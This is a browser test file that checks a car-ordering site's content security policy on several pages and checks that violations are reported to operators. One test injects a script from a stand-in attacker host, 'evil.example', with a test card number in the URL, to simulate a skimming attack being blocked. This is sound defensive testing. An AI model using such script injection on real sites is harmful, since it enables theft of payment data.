/** The content security policy in a real Chromium: the pages comply with it, and violations are reported. */
import type { Page } from 'puppeteer-core';
import { describe, expect, it } from 'vitest';
import { eventually } from '@driveaway/domain/testing/eventually.ts';
import { stageOfFile } from './stage.ts';

const stage = stageOfFile();

const told = (): readonly string[] =>
  stage()
    .product.output()
    .split('\n')
    .filter((line) => line.includes('policy blocked'));

const visit = async (path: string): Promise<Page> => {
  const page = await stage().newVisitor();
  await page.evaluateOnNewDocument(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      document.documentElement.dataset['blocked'] = `${effectiveDirective} ${blockedURI}`;
    });
  });
  await page.goto(`${stage().product.url}${path}`, { waitUntil: 'networkidle0' });
  await page.waitForSelector('h1');
  return page;
};

const blockedOn = (page: Page): Promise<string | undefined> =>
  page.evaluate(() => document.documentElement.dataset['blocked']);

describe('the policy of a page', () => {
  it.each(['/', '/outback', '/dealers', '/build-your-own/account/login', '/build-your-own/order/12345678-1234/pay'])(
    'blocks nothing of the product’s own on %s',
    async (path) => {
      expect(await blockedOn(await visit(path))).toBeUndefined();
    },
  );

  it('blocks a script of somebody else in the ordering area, and operators hear of it (row 93)', async () => {
    const before = told().length;
    const page = await visit('/build-your-own/account/login');
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/tag.js?card=4444333322221111';
      document.head.append(script);
    });
    await eventually(() => expect(told()).toHaveLength(before + 1));
    expect(told().at(-1)).toContain('"blocked":"https://evil.example"');
    expect(stage().product.output()).not.toContain('4444333322221111');
    expect(await blockedOn(page)).toContain('script-src-elem');
  });
});
